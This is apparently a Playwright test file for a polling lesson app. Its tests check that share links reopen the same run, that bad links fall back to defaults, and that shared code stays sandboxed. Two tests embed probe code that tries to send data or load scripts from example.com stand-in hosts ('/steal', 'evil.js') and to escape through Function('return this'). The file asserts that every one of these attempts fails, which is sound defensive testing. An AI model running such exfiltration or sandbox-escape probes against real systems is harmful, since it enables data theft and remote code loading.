import { expect, leftLocalhost, test, watchErrors } from './fixtures';
import { LessonPage } from './pages/LessonPage';

async function makeLink(lesson: LessonPage): Promise<string> {
  await lesson.button('Share').click();
  const field = lesson.page.getByRole('textbox', { name: /Link to this run/ });
  await expect(field).toHaveValue(/#\/lesson\/polling\?s=/);
  return field.inputValue();
}

test('a share link reopens the same run, metrics and moment in a fresh browser', async ({
  page,
  browser,
  consoleErrors: _,
}) => {
  const lesson = new LessonPage(page);
  await lesson.open();
  await lesson.afterRun(() => lesson.setKnob('Clients (clients)', '37'));
  await lesson.setCode('export function nextPollDelay(): number {\n  return 400;\n}\n');
  await lesson.run();
  await lesson.timeline.fill('12345');
  const metrics = (await lesson.lastRun())?.metrics;
  const time = await lesson.time.textContent();
  const link = await makeLink(lesson);

  const fresh = await browser.newContext();
  const other = await fresh.newPage();
  const errors: string[] = [];
  await watchErrors(other, errors);
  const reopened = new LessonPage(other);
  await other.goto(link);
  await reopened.waitReady();
  expect((await reopened.lastRun())?.metrics).toEqual(metrics);
  await expect(reopened.time).toHaveText(time!);
  await expect(other.getByRole('spinbutton', { name: 'Clients (clients)' })).toHaveValue('37');
  expect(await reopened.code()).toContain('return 400;');
  expect(errors).toEqual([]);
  await fresh.close();
});

test('a garbage link opens the lesson with defaults and a clear notice', async ({
  page,
  consoleErrors: _,
}) => {
  const lesson = new LessonPage(page);
  await lesson.open('polling', 'this-is-not-a-share-link');
  await lesson.expectNotice(/could not be opened/);
  await expect(page.getByRole('spinbutton', { name: 'Clients (clients)' })).toHaveValue('20');
  await expect(lesson.goal('fresh')).toBeVisible();
});

test('code from a link cannot reach the network, storage or script loading', async ({
  page,
  browser,
  consoleErrors: _,
}) => {
  const lesson = new LessonPage(page);
  await lesson.open();
  const probe = `
const doors: Record<string, (g: any) => unknown> = {
  fetch: (g) => g.fetch('http://example.com/steal'),
  XMLHttpRequest: (g) => { const x = new g.XMLHttpRequest(); x.open('GET', 'http://example.com/x'); x.send(); },
  WebSocket: (g) => new g.WebSocket('ws://example.com/'),
  EventSource: (g) => new g.EventSource('http://example.com/es'),
  importScripts: (g) => g.importScripts('http://example.com/s.js'),
  indexedDB: (g) => g.indexedDB.open('x'),
  caches: (g) => g.caches.open('x'),
};
export function nextPollDelay(): number {
  const g = Function('return this')();
  const out: string[] = [];
  for (const [name, open] of Object.entries(doors)) {
    try { open(g); out.push(name + ' WAS REACHABLE'); } catch (e) { out.push((e as Error).message); }
  }
  throw new Error(out.join(' | '));
}
`;
  await lesson.setCode(probe);
  const link = await makeLink(lesson);

  const ctx = await browser.newContext();
  const other = await ctx.newPage();
  const errors: string[] = [];
  const requests: string[] = [];
  await watchErrors(other, errors);
  other.on('request', (r) => requests.push(r.url()));
  const reopened = new LessonPage(other);
  await other.goto(link);
  await reopened.waitReady();
  const message = (await reopened.lastRun())?.diagnostics[0]?.message ?? '';
  // In its compartment, 'this' of a Function is undefined and no host global is there:
  // every door fails with an error, none is reached.
  const outcomes = message.replace(/^Error: /, '').split(' | ');
  expect(outcomes).toHaveLength(7);
  for (const outcome of outcomes)
    expect(outcome).toMatch(/undefined|not available|not a (function|constructor)/);
  expect(message).not.toContain('REACHABLE');
  await expect(reopened.problems()).toContainText('Cannot read properties of undefined');
  expect(leftLocalhost(requests)).toEqual([]);
  expect(errors).toEqual([]);
  await ctx.close();
});

test('code from a link cannot load a remote module with import() either', async ({
  page,
  browser,
  consoleErrors: _,
}) => {
  const lesson = new LessonPage(page);
  await lesson.open();
  // import() is syntax, not a global: the compartment's evaluator refuses it, and the
  // worker's Content Security Policy would stop the load behind that.
  await lesson.setCode(`export function nextPollDelay(): number {
  const load = Function('u', 'return import(u)') as (u: string) => Promise<unknown>;
  load('http://example.com/evil.js').catch(() => undefined);
  return 1000;
}
`);
  await lesson.run();
  const link = await makeLink(lesson);

  const ctx = await browser.newContext();
  const other = await ctx.newPage();
  const requests: string[] = [];
  const errors: string[] = [];
  const blocked: string[] = [];
  other.on('request', (r) => requests.push(r.url()));
  // Chromium reports a load the policy refused as a request that failed with "csp":
  // it never reached the network.
  other.on('requestfailed', (r) => r.failure()?.errorText === 'csp' && blocked.push(r.url()));
  other.on('console', (m) => m.type() === 'error' && errors.push(m.text()));
  const reopened = new LessonPage(other);
  await other.goto(link);
  await reopened.waitReady();
  await other.waitForTimeout(500);
  expect(leftLocalhost(requests).filter((u) => !blocked.includes(u))).toEqual([]);
  // The only complaints allowed are the browser's own reports of the blocked load.
  expect(errors.filter((e) => !/Content Security Policy|evil\.js/.test(e))).toEqual([]);
  await ctx.close();
});
